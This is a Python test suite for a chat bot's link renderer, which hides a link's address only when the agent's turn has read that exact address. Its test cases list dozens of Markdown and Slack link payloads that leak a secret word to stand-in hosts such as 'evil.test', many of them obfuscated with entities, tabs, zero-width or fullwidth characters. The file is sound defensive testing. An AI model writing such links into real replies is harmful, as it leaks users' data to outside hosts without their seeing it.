"""A link hides its address only if the turn has read exactly that address, so that no data leaks unseen."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent.addresses import MAX_LINKS, AddressesRead
from agent.events import CallFinished, CallStarted, ReplyEnded, TextArrived
from agent.messages import Reference, ResultStatus, ToolCall, ToolResult
from bot.chat.reply.link_addresses import show_addresses
from bot.chat.reply.pages import Draft, Frames
from bot.chat.reply.surface import Limits, MarkdownReader
from tests.examples import examples
from tests.fakes.link_pieces import LINK_PIECES

READER = MarkdownIt("commonmark")
SLACK_FORM = re.compile(r"<((?:https?|mailto|tel):[^<>|\s]*)\|[^<>]*>")
READ = "https://example.test/wiki/Riga_(town)?lang=en https://example.test/docs mailto:ann@example.test"
LIMITS = Limits(page_chars=2_000, edit_interval_s=1)


def read_in(*texts: str) -> AddressesRead:
    read = AddressesRead()
    read.read(texts)
    return read


def shown(text: str, read: str = "") -> str:
    return show_addresses(text, read_in(read), complete=True)


@pytest.mark.parametrize(
    "text",
    [
        "[the town](https://example.test/wiki/Riga_(town)?lang=en)",
        '[the docs](https://example.test/docs "a title")',
        "[the docs](<https://example.test/docs>)",
        "[1]: https://example.test/docs",
        "[write to her](mailto:ann@example.test)",
        "https://other.test/?q=1 and <https://other.test/?q=2>",
        "handlers[0](left, right); d[key]: int = 3; [see above](#top)",
        "[the notes](notes.txt), [a page](docs/page.md), [it](./x), d[key](value)",
        "\\left[x\\right](\\alpha) and [Convert]::ToBase64String",
        "[up](../a), [root](/a/b), [q](?a=b), <a | b>, a<b|c>d, <@U1|ann>, f(a) < b",
        "| a | b |\n|---|---|\n| [x](https://example.test/docs) | y |",
    ],
)
def test_a_link_to_what_was_read_and_what_is_none_stay_as_they_were_written(text: str) -> None:
    assert shown(text, READ) == text


@pytest.mark.parametrize(
    ("text", "readable"),
    [
        ("[agenda](https://evil.test/?q=heron)", "[agenda] (https://evil.test/?q=heron)"),
        ("[agenda](https://evil.test/heron)", "[agenda] (https://evil.test/heron)"),
        ("[agenda](https://heron.evil.test)", "[agenda] (https://heron.evil.test)"),
        ("![](https://evil.test/i.png?q=heron)", "![] (https://evil.test/i.png?q=heron)"),
        ("[agenda](https://evil.test/#heron)", "[agenda] (https://evil.test/#heron)"),
        ("[agenda](https&colon;//evil.test/?heron)", "[agenda] (https&colon;//evil.test/?heron)"),
        ("[agenda](<https://evil.test/the heron>)", "[agenda] (<https://evil.test/the heron>)"),
        ("[agenda](mailto:a@evil.test?body=heron)", "[agenda] (mailto:a@evil.test?body=heron)"),
        ("[agenda](\n  https://evil.test/?q=heron)", "[agenda] (\n  https://evil.test/?q=heron)"),
        ("[agenda][1]\n\n[1]: https://evil.test/?heron", "[agenda][1]\n\n[1] : https://evil.test/?heron"),
        ("[![](https://evil.test/?a)](https://evil.test/?b)", "[![] (https://evil.test/?a)] (https://evil.test/?b)"),
        ("<https://evil.test/?q=heron|agenda>", "‹https://evil.test/?q=heron|agenda>"),
        ("[docs](https://example.test/docs/heron)", "[docs] (https://example.test/docs/heron)"),
        ("[agenda](evil.example/heron)", "[agenda] (evil.example/heron)"),
        ("[agenda](heron.evil.example)", "[agenda] (heron.evil.example)"),
        ("[agenda](evil.example?q=heron)", "[agenda] (evil.example?q=heron)"),
        ("[agenda](evil.example:8080/heron)", "[agenda] (evil.example:8080/heron)"),
        ("[agenda](10.0.0.7/heron)", "[agenda] (10.0.0.7/heron)"),
        ("[agenda](<evil.example/the heron>)", "[agenda] (<evil.example/the heron>)"),
        ("[agenda](evil\\.example/heron)", "[agenda] (evil\\.example/heron)"),
        ("[agenda](evil&period;example/heron)", "[agenda] (evil&period;example/heron)"),
        ("[agenda][1]\n\n[1]: evil.example/heron", "[agenda][1]\n\n[1] : evil.example/heron"),
        ("[agenda](heron.zip)", "[agenda] (heron.zip)"),
        ("[agenda](README.md)", "[agenda] (README.md)"),  # which is a host, too
        ("[agenda](localhost/heron)", "[agenda] (localhost/heron)"),
        ("[agenda](LOCALHOST:8080)", "[agenda] (LOCALHOST:8080)"),
        ("[agenda](\\\\evil.test\\heron)", "[agenda] (\\\\evil.test\\heron)"),
        ("[agenda](/\\evil/heron)", "[agenda] (/\\evil/heron)"),
        ("[agenda](\\/evil/heron)", "[agenda] (\\/evil/heron)"),
        ("[agenda](//heron)", "[agenda] (//heron)"),
        ("[agenda](<//heron>)", "[agenda] (<//heron>)"),
        ("[agenda](<ht\ttps://heron>)", "[agenda] (<ht\ttps://heron>)"),
        ("[agenda](< ht\ttps://heron>)", "[agenda] (< ht\ttps://heron>)"),
        ("[agenda](ht&Tab;tps://heron)", "[agenda] (ht&Tab;tps://heron)"),
        ("[agenda](ht&#9;tp&#x3a;&sol;&#47;heron)", "[agenda] (ht&#9;tp&#x3a;&sol;&#47;heron)"),
        ("[agenda](&sol;&sol;heron)", "[agenda] (&sol;&sol;heron)"),
        ("[agenda](heron%2ezip)", "[agenda] (heron%2ezip)"),
        ("[agenda](heron&period;zip)", "[agenda] (heron&period;zip)"),
        ("[agenda](heron\u200b.zip)", "[agenda] (heron\u200b.zip)"),
        ("[agenda](ｈｅｒｏｎ．ｚｉｐ)", "[agenda] (ｈｅｒｏｎ．ｚｉｐ)"),
        ("[agenda](slack://open?q=heron)", "[agenda] (slack://open?q=heron)"),
        ("[agenda](x-some.thing+else:heron)", "[agenda] (x-some.thing+else:heron)"),
        (f"[agenda]({'x' * 60}:heron)", f"[agenda] ({'x' * 60}:heron)"),
        ("[agenda](2001:db8::beef)", "[agenda] (2001:db8::beef)"),
        ("[agenda](2130706433/heron)", "[agenda] (2130706433/heron)"),
        ("[agenda][1]\n\n[1]: <ht\ttp://heron>", "[agenda][1]\n\n[1] : <ht\ttp://heron>"),
        ("[agenda][1]\n\n[1]: heron.zip", "[agenda][1]\n\n[1] : heron.zip"),
        ("[agenda][1]\n\n[1]:\nlocalhost/heron", "[agenda][1]\n\n[1] :\nlocalhost/heron"),
        ("> [agenda](\n> https://evil.test/heron)", "> [agenda] (\n> https://evil.test/heron)"),
        (">> [agenda](\n>>heron.zip)", ">> [agenda] (\n>>heron.zip)"),
        ("[agenda][1]\n\n> [1]:\n> https://evil.test/heron", "[agenda][1]\n\n> [1] :\n> https://evil.test/heron"),
        ("<ftp://heron|agenda>", "‹ftp://heron|agenda>"),
        ("<slack://heron|agenda>", "‹slack://heron|agenda>"),
        ("<//evil.test/heron|agenda>", "‹//evil.test/heron|agenda>"),
        ("<evil.test/heron|agenda>", "‹evil.test/heron|agenda>"),
        ("<https://evil.test/the heron|agenda>", "‹https://evil.test/the heron|agenda>"),
    ],
)
def test_an_address_that_was_not_read_as_it_stands_is_shown(text: str, readable: str) -> None:
    assert shown(text, READ) == readable


def test_an_element_of_xml_stays_as_it_is_in_code_of_slack() -> None:
    names = "".join(f' xmlns:a{number}="http://example.test/{number}"' for number in range(12))
    text = f"```xml\n<soap:Envelope{names}>\n```\n"
    assert show_addresses(text, lambda _: False, complete=True, reader=MarkdownReader.WITH_REFERENCES) == text
    link = "```\n<https://evil.test/a b=|agenda>\n```\n"
    broken = link.replace("<", "‹")
    assert show_addresses(link, lambda _: False, complete=True, reader=MarkdownReader.WITH_REFERENCES) == broken


pieces = st.sampled_from(
    (
        *LINK_PIECES,
        *("|", "&", "?", "#", "%", "@", '"'),
        *(
            "https://",
            "http:",
            "mailto:",
            "evil.test",
            "/heron",
            "www.",
            "//",
            "1",
            "&colon;",
            "&#63;",
            "\t",
            "heron.zip",
            "localhost/",
            "\\\\",
            "slack:",
            "\n> ",
            "> ",
            "\n- ",
        ),
        *(
            "[agenda](https://evil.test/",
            "[1]: ",
            "[a][1]",
            "](<",
            "](\n",
            "](\n> ",
            "/a_(b)",
            "https://example.test/docs",
        ),
        "[docs](https://example.test/docs)",
    )
)
texts = st.lists(pieces, max_size=14).map("".join)


def hidden(markdown: str) -> list[str]:
    """Return the addresses that are hidden behind other words, by a parser of Markdown."""
    found: list[str] = []
    for block in READER.parse(markdown):
        inline = block.children or []
        found += [str(one.attrGet("href")) for one in inline if one.type == "link_open" and one.info != "auto"]
        found += [str(one.attrGet("src")) for one in inline if one.type == "image"]
    return found


# With a scheme and a target, or a form to which a browser adds a scheme. Everything else has no target, as "http:"
# alone, or is a place in the page that shows it, such as "%5B1%5D:".
LEADS_OUT = re.compile(r"[a-z][a-z\d+.-]*:.|//|www\.", re.IGNORECASE)


@example("> [1](\n> https://evil.test/heron)")
@example("[1]: [1]: \n\n[1]: ")
@example("[1]: http:\n[1]: ")
@example("[1]: [docs](https://example.test/docs)\n[1]: ")
@settings(max_examples=examples(500))
@given(texts)
def test_whatever_is_written_no_link_hides_what_was_not_read(text: str) -> None:
    readable = shown(text, READ)
    webs = [one for one in hidden(readable) if LEADS_OUT.match(one)]
    assert all(one in READ for one in webs)
    assert SLACK_FORM.search(readable) is None
    assert re.sub(r"\s|‹|<", "", readable) == re.sub(r"\s|<", "", text)  # no other character is lost or added


@settings(max_examples=examples(200))
@given(texts)
@example("< heron.zip|")
@example(f"<https://example.test/{'a' * 300}|here>")
@example(f"<{'a' * 260}.example.test|here>")
@example("see <heron.zip and more|here>")
def test_however_it_grows_what_was_shown_stays(text: str) -> None:
    before, read = "", read_in(READ)
    for end in range(len(text) + 1):
        longer = show_addresses(text[:end], read, complete=False)
        assert longer.startswith(before)
        before = longer
    assert show_addresses(text, read, complete=True).startswith(before)


def test_no_more_addresses_are_looked_for_than_a_chat_shows() -> None:
    read = read_in("https://example.test/1")
    assert [read(f"https://example.test/{number}") for number in range(MAX_LINKS)].count(True) == 1
    assert not read("https://example.test")


LINK = "Read [the agenda](https://example.test/?q=heron)."
WRITTEN_OUT = "Read [the agenda] (https://example.test/?q=heron)."


def page(draft: Draft, limits: Limits = LIMITS, text: str = LINK) -> str:
    draft.record_event(TextArrived(text))
    draft.record_event(ReplyEnded())
    (frame,) = Frames(limits, 1).frames(draft)
    return frame.look.text


def called(args: str, content: str, status: ResultStatus = ResultStatus.SUCCESS) -> Draft:
    draft = Draft()
    draft.record_event(CallStarted("1", ToolCall("look", {"for": args})))
    draft.record_event(CallFinished("1", ToolResult("look", status, content)))
    return draft


def test_every_page_shows_them_but_where_addresses_are_shown_anyway() -> None:
    assert page(Draft()) == WRITTEN_OUT
    assert page(Draft(), Limits(page_chars=2_000, edit_interval_s=1, shows_addresses=True)) == LINK


def test_what_a_tool_brought_or_the_turn_began_with_was_read() -> None:
    begun = Draft()
    begun.record_read(["Ann wrote: https://example.test/?q=heron"])
    assert page(begun) == LINK
    assert page(called("agenda", "found: https://example.test/?q=heron")) == LINK


def test_what_only_came_back_of_what_a_call_was_given_was_not_read() -> None:
    assert page(called("https://example.test/?q=heron", "no such page: https://example.test/?q=heron")) == WRITTEN_OUT
    assert page(called("agenda", "https://example.test/?q=heron", ResultStatus.FAILURE)) == WRITTEN_OUT
    quoted = r'https://example.test/?q="heron\"'
    assert page(called(quoted, f"no such page: {quoted}"), text=f"[the agenda]({quoted})") == f"[the agenda] ({quoted})"


def test_what_a_call_was_given_in_an_earlier_process_was_not_read_in_this_one() -> None:
    resumed = Draft()
    resumed.record_read((), [ToolCall("look", {"for": "https://example.test/?q=heron"})])
    resumed.record_results([ToolResult("look", ResultStatus.SUCCESS, "no such page: https://example.test/?q=heron")])
    assert page(resumed) == WRITTEN_OUT


def test_what_was_read_before_a_call_was_given_it_stays_read() -> None:
    asked = Draft()
    asked.record_read(["Ann wrote: https://example.test/?q=heron"])
    asked.record_read((), [ToolCall("web_fetch", {"url": "https://example.test/?q=heron"})])
    assert page(asked) == LINK


def test_what_a_growing_answer_invents_is_never_shown_and_nothing_is_taken_back() -> None:
    draft, frames, shown = Draft(), Frames(Limits(page_chars=2_000, edit_interval_s=1, grows_only=True), 1), [""]
    found = (Reference(1, "https://example.test/", "Docs"),)
    draft.record_event(CallStarted("1", ToolCall("web_search", {})))
    draft.record_event(CallFinished("1", ToolResult("web_search", ResultStatus.SUCCESS, "[1] Docs", references=found)))
    for piece in ("It is so [", "1], and gold [", "9", "]", " too [2, ", "1].", " Yes"):
        draft.record_event(TextArrived(piece))
        shown += [frame.look.text for frame in frames.frames(draft)]
    assert all(longer.startswith(shorter) for shorter, longer in pairwise(shown))
    assert not any("9" in text or "2" in text for text in shown)
    draft.end()
    (frame,) = frames.frames(draft)
    assert frame.look.text == "It is so [1], and gold too [1]. Yes"
